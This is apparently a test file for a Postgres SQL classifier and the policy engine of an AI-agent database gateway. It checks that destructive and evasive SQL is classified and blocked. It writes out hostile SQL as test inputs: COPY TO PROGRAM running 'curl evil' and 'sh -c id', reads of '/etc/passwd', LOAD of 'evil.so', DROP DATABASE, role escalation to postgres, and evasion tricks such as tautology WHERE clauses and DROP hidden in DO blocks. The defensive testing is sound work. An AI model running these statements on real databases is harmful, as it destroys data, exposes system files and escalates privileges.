import { test, describe, before } from 'node:test';
import assert from 'node:assert/strict';
import { classifySql, initClassifier, mergeClassifications, toOperationSql } from '../src/protocols/postgres/classify/index.js';
import { compilePolicySet, evaluate } from '../src/policy/index.js';
import type { ProtectedResource, AgentPolicy } from '@agentgate/api';

before(() => initClassifier());

const kinds = (sql: string) => classifySql(sql).statementKinds.slice().sort();

describe('statement kinds', () => {
  const cases: [string, string[]][] = [
    ['SELECT 1', ['SELECT']],
    ['select * from t; drop table t', ['DROP', 'SELECT']],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['DELETE', 'SELECT']],
    ['INSERT INTO t SELECT * FROM s', ['INSERT', 'SELECT']],
    ['ALTER TABLE t DROP COLUMN c', ['ALTER', 'ALTER_DROP']],
    ['ALTER TABLE t ADD COLUMN c int', ['ALTER']],
    ['ALTER TABLE t DROP CONSTRAINT k, ADD COLUMN x int', ['ALTER', 'ALTER_DROP']],
    ['ALTER DOMAIN d DROP CONSTRAINT c', ['ALTER', 'ALTER_DROP']],
    ['ALTER PUBLICATION p DROP TABLE t', ['ALTER', 'ALTER_DROP']],
    ['ALTER SYSTEM SET work_mem = 1', ['ALTER', 'ALTER_SYSTEM']],
    ["COPY t TO PROGRAM 'curl evil'", ['COPY_PROGRAM', 'COPY_TO']],
    ["COPY t FROM '/etc/passwd'", ['COPY_FILE', 'COPY_FROM']],
    ['COPY t FROM STDIN', ['COPY_FROM']],
    ['COPY (DELETE FROM t RETURNING *) TO STDOUT', ['COPY_TO', 'DELETE']],
    ['EXPLAIN DELETE FROM t', ['EXPLAIN']],
    ['EXPLAIN ANALYZE DELETE FROM t', ['DELETE', 'EXPLAIN', 'EXPLAIN_ANALYZE']],
    ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1', ['EXPLAIN', 'EXPLAIN_ANALYZE', 'UPDATE']],
    ['EXPLAIN (ANALYZE false) DELETE FROM t', ['EXPLAIN']],
    ['GRANT SELECT ON t TO bob', ['GRANT']],
    ['REVOKE ALL ON t FROM bob', ['REVOKE']],
    ['GRANT admin TO bob', ['GRANT']],
    ['CREATE ROLE x LOGIN', ['CREATE', 'CREATE_ROLE']],
    ['ALTER ROLE x SUPERUSER', ['ALTER', 'ALTER_ROLE']],
    ['DROP ROLE x', ['DROP', 'DROP_ROLE']],
    ['ALTER TABLE t OWNER TO bob', ['ALTER', 'ALTER_SECURITY']],
    ['ALTER FUNCTION f() OWNER TO bob', ['ALTER', 'ALTER_SECURITY']],
    ['ALTER TABLE t DISABLE ROW LEVEL SECURITY', ['ALTER', 'ALTER_SECURITY']],
    ['ALTER TABLE t NO FORCE ROW LEVEL SECURITY', ['ALTER', 'ALTER_SECURITY']],
    ['ALTER TABLE t ENABLE ROW LEVEL SECURITY, ADD COLUMN x int', ['ALTER']],
    ['DROP DATABASE prod', ['DROP']],
    ['DROP SCHEMA s CASCADE', ['DROP']],
    ['TRUNCATE a, b', ['TRUNCATE']],
    ['DO $$ BEGIN EXECUTE $q$DROP TABLE t$q$; END $$', ['DO']],
    ['PREPARE p AS DELETE FROM t', ['PREPARE']],
    ['EXECUTE p', ['EXECUTE']],
    ['SET search_path TO x', ['SET']],
    ['RESET ALL', ['RESET']],
    ['SHOW work_mem', ['SHOW']],
    ['BEGIN', ['TRANSACTION']],
    ['VACUUM t', ['VACUUM']],
    ['ANALYZE t', ['ANALYZE']],
    ['LISTEN ch', ['LISTEN']],
    ["NOTIFY ch, 'x'", ['NOTIFY']],
    ['DECLARE c CURSOR FOR SELECT * FROM t', ['DECLARE', 'SELECT']],
    ['CREATE TABLE x AS SELECT * FROM y', ['CREATE', 'SELECT']],
    ['SELECT * INTO z FROM y', ['CREATE', 'SELECT']],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)', ['DELETE', 'INSERT', 'MERGE']],
    ["LOAD 'evil.so'", ['LOAD']],
    ['CALL p(1)', ['CALL']],
    ['', []],
  ];
  for (const [sql, want] of cases) test(sql || '(empty)', () => assert.deepEqual(kinds(sql), want.slice().sort()));

  test('unparseable text is classified, not thrown', () => {
    const c = classifySql('SELEC * FROM t');
    assert.deepEqual(c.statementKinds, ['UNPARSEABLE']);
    assert.match(c.parseError ?? '', /syntax error at or near "SELEC"/);
    assert.match(c.fingerprint, /^[0-9a-f]{16}$/);
  });
});

describe('unbounded writes', () => {
  const unbounded = [
    'DELETE FROM t',
    'UPDATE t SET a = 1',
    'DELETE FROM t WHERE true',
    'DELETE FROM t WHERE 1=1',
    "DELETE FROM t WHERE 'a' = 'a'",
    'DELETE FROM t WHERE id = id',
    'DELETE FROM t WHERE t.id = t.id',
    'DELETE FROM t WHERE id IS NOT NULL',
    'DELETE FROM t WHERE NOT (id IS NULL)',
    'DELETE FROM t WHERE id = 5 OR true',
    'DELETE FROM t WHERE id = 5 OR 1 = 1',
    'DELETE FROM t WHERE true AND true',
    "DELETE FROM t WHERE 't'::boolean",
    'DELETE FROM t WHERE EXISTS (SELECT 1)',
    'DELETE FROM t WHERE (SELECT true)',
    'DELETE FROM t /* where id = 1 */',
    'DELETE FROM t -- where id = 1\n',
    'UPDATE t SET a = 1 WHERE NOT false',
    'WITH x AS (DELETE FROM t RETURNING 1) SELECT 1',
    'EXPLAIN ANALYZE DELETE FROM t',
    'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
    'select 1; delete from t',
  ];
  for (const sql of unbounded) test(`unbounded: ${sql}`, () => assert.equal(classifySql(sql).unboundedWrite, true));

  const bounded = [
    'DELETE FROM t WHERE id = 5',
    'UPDATE t SET a = 1 WHERE id = $1',
    'DELETE FROM t WHERE id IN (SELECT id FROM s)',
    'DELETE FROM t WHERE id = 5 AND true',
    'DELETE FROM t WHERE a IS NULL',
    'DELETE FROM t USING s WHERE t.id = s.id',
    'DELETE FROM t WHERE CURRENT OF c',
    'DELETE FROM t WHERE false',
    'EXPLAIN DELETE FROM t',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
  ];
  for (const sql of bounded) test(`bounded: ${sql}`, () => assert.equal(classifySql(sql).unboundedWrite, false));
});

describe('tables, columns, functions', () => {
  test('tables are schema-qualified with the search path; CTE names are not tables', () => {
    const c = classifySql('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent JOIN billing.invoices i ON true');
    assert.deepEqual(c.tables.sort(), ['billing.invoices', 'public.orders']);
    assert.deepEqual(classifySql('SELECT * FROM orders', { searchPath: ['"$user"', 'shop', 'public'] }).tables, ['shop.orders']);
    assert.deepEqual(classifySql('SELECT * FROM pg_class').tables, ['pg_catalog.pg_class']);
  });

  test('the tables a statement writes or defines are its tables (fields the parser gives unwrapped)', () => {
    const cases: Array<[string, string[]]> = [
      ['DELETE FROM t WHERE id = 1', ['public.t']],
      ['UPDATE billing.invoices AS i SET paid = true WHERE i.id = 2', ['billing.invoices']],
      ['INSERT INTO t SELECT * FROM s', ['public.s', 'public.t']],
      ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', ['public.s', 'public.t']],
      ['COPY t TO STDOUT', ['public.t']],
      ['ALTER TABLE t DROP COLUMN c', ['public.t']],
      ['CREATE INDEX i ON t (a)', ['public.t']],
      ['CREATE VIEW v AS SELECT * FROM t', ['public.t', 'public.v']],
      ['WITH x AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM x)', ['public.t']],
    ];
    for (const [sql, tables] of cases) assert.deepEqual(classifySql(sql).tables.sort(), tables, sql);
    assert.deepEqual(classifySql('UPDATE t SET a = 1 WHERE id = 2').columns.sort(), ['public.t.a', 'public.t.id']);
  });

  test('DROP TABLE lists the dropped tables', () => {
    assert.deepEqual(classifySql('DROP TABLE a.b, c').tables.sort(), ['a.b', 'public.c']);
    assert.deepEqual(classifySql('DROP FUNCTION f()').tables, []);
  });

  test('columns are qualified when the table is known', () => {
    assert.deepEqual(classifySql('SELECT ssn, email FROM customers').columns.sort(), ['public.customers.email', 'public.customers.ssn']);
    const c = classifySql('SELECT c.ssn, o.total FROM customers c JOIN orders o ON o.cid = c.id');
    assert.ok(c.columns.includes('public.customers.ssn') && c.columns.includes('public.orders.total'), c.columns.join());
  });

  test('functions anywhere in the tree, with schema when written', () => {
    const c = classifySql("SELECT lower(a) FROM t WHERE x = pg_catalog.pg_read_file('/etc/passwd')");
    assert.deepEqual(c.functions.sort(), ['lower', 'pg_catalog.pg_read_file']);
    assert.deepEqual(classifySql('CALL refresh_all()').functions, ['refresh_all']);
  });
});

describe('opaque statements', () => {
  for (const sql of [
    "DO $$ BEGIN PERFORM 1; END $$",
    "SELECT query_to_xml('DROP TABLE t', true, true, '')",
    "SELECT dblink_exec('host=x', 'DROP TABLE t')",
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t RETURNING 1 $$',
    'CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()',
    'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM s',
  ]) test(sql, () => assert.equal(classifySql(sql).opaque, true));
  test('plain statements are not opaque', () => assert.equal(classifySql('SELECT * FROM t').opaque, false));
});

describe('prepared statements and session state', () => {
  test('PREPARE carries what EXECUTE will do', () => {
    const c = classifySql('PREPARE wipe(int) AS DELETE FROM t');
    assert.deepEqual(c.prepares.map((p) => p.name), ['wipe']);
    assert.deepEqual(c.prepares[0]!.classification.statementKinds, ['DELETE']);
    assert.equal(c.prepares[0]!.classification.unboundedWrite, true);
    const e = classifySql('EXECUTE wipe(1)');
    assert.deepEqual(e.executes, ['wipe']);
    const merged = mergeClassifications(e, c.prepares[0]!.classification);
    assert.deepEqual(merged.statementKinds.sort(), ['DELETE', 'EXECUTE']);
    assert.equal(merged.unboundedWrite, true);
  });

  test('DEALLOCATE and SET search_path are reported', () => {
    assert.deepEqual(classifySql('DEALLOCATE p').deallocates, ['p']);
    assert.equal(classifySql('DEALLOCATE ALL').deallocates, 'all');
    assert.deepEqual(classifySql('SET search_path = private, public').searchPath, ['private', 'public']);
    assert.deepEqual(classifySql("SET search_path TO 'a, b'").searchPath, ['a', 'b']);
    assert.equal(classifySql('RESET search_path').searchPath, 'default');
    assert.equal(classifySql('SET work_mem = 1').searchPath, undefined);
  });
});

test('fingerprints ignore literals', () => {
  assert.equal(classifySql('SELECT * FROM t WHERE id = 1').fingerprint, classifySql('SELECT * FROM t WHERE id = 42').fingerprint);
  assert.notEqual(classifySql('SELECT * FROM t WHERE id = 1').fingerprint, classifySql('SELECT * FROM s WHERE id = 1').fingerprint);
});

test('classification feeds the policy engine: evasions still hit the destructive rules', () => {
  const res: ProtectedResource = {
    apiVersion: 'agentgate.dev/v1alpha1', kind: 'ProtectedResource', metadata: { name: 'db' },
    spec: { type: 'postgres', endpoint: { host: 'db', port: 5432 } },
  };
  const pol: AgentPolicy = {
    apiVersion: 'agentgate.dev/v1alpha1', kind: 'AgentPolicy', metadata: { name: 'p' },
    spec: { selector: {}, resources: [{ name: 'db' }] },
  };
  const set = compilePolicySet({ policies: [pol], resources: [res] });
  const decide = (sql: string) => evaluate(set, { resource: 'db', protocol: 'postgres', text: sql, sql: toOperationSql(classifySql(sql)) }, { lenientIdentity: true });
  const blocked: [string, string][] = [
    ['SELECT 1; DROP TABLE customers', 'builtin:destructive/drop'],
    ['DeLeTe FrOm customers /* WHERE id = 1 */', 'builtin:destructive/unbounded-write'],
    ['WITH gone AS (DELETE FROM customers WHERE 1=1 RETURNING *) SELECT count(*) FROM gone', 'builtin:destructive/unbounded-write'],
    ['EXPLAIN ANALYZE DELETE FROM customers', 'builtin:destructive/unbounded-write'],
    ['TRUNCATE customers', 'builtin:destructive/truncate'],
    ["COPY (SELECT 1) TO PROGRAM 'sh -c id'", 'builtin:destructive/server-access'],
    ["SELECT pg_read_file('/etc/passwd')", 'builtin:destructive/server-functions'],
    ["SELECT query_to_xml('DROP TABLE customers', true, true, '')", 'builtin:destructive/opaque'],
    ['DO $$ BEGIN EXECUTE \'DROP TABLE customers\'; END $$', 'builtin:destructive/opaque'],
    ['ALTER TABLE customers DROP COLUMN ssn', 'builtin:destructive/alter-drop'],
    ['GRANT ALL ON customers TO PUBLIC', 'builtin:destructive/privileges'],
    ['SELEC * FROM customers', 'builtin:destructive/unparseable'],
    ['SET ROLE postgres', 'builtin:destructive/privileges'],
    ['SET SESSION AUTHORIZATION postgres', 'builtin:destructive/privileges'],
    ["SELECT set_config('role', 'postgres', false)", 'builtin:destructive/privileges'],
    ["SELECT pg_catalog.set_config('SESSION_AUTHORIZATION'::text, 'postgres', true)", 'builtin:destructive/privileges'],
    ["SELECT set_config(name, 'x', false) FROM (VALUES ('role')) v(name)", 'builtin:destructive/opaque'],
    ['CREATE EXTENSION IF NOT EXISTS dblink', 'builtin:destructive/server-access'],
  ];
  for (const [sql, rule] of blocked) {
    const d = decide(sql);
    assert.equal(d.action, 'block', sql);
    assert.equal(d.rule, rule, sql);
  }
  assert.equal(decide('SELECT * FROM customers WHERE id = 1').action, 'allow');
  assert.equal(decide('DELETE FROM customers WHERE id = 1').action, 'allow');
});

test('set_config(search_path) moves unqualified names like SET search_path does', () => {
  const c = classifySql("SELECT set_config('search_path', 'private, public', false)");
  assert.deepEqual(c.searchPath, ['private', 'public']);
  assert.equal(c.opaque, false);
  assert.equal(classifySql("SELECT set_config('search_path', current_setting('x'), false)").opaque, true);
  assert.equal(classifySql('RESET ROLE').statementKinds.includes('SET_ROLE'), false);
  assert.equal(classifySql("EXPLAIN SELECT set_config('role', 'postgres', false)").statementKinds.includes('SET_ROLE'), false);
});

test('cache returns the same object for the same text and search path', () => {
  const a = classifySql('SELECT 42');
  assert.equal(classifySql('SELECT 42'), a);
  assert.notEqual(classifySql('SELECT 42', { searchPath: ['x'] }), a);
});
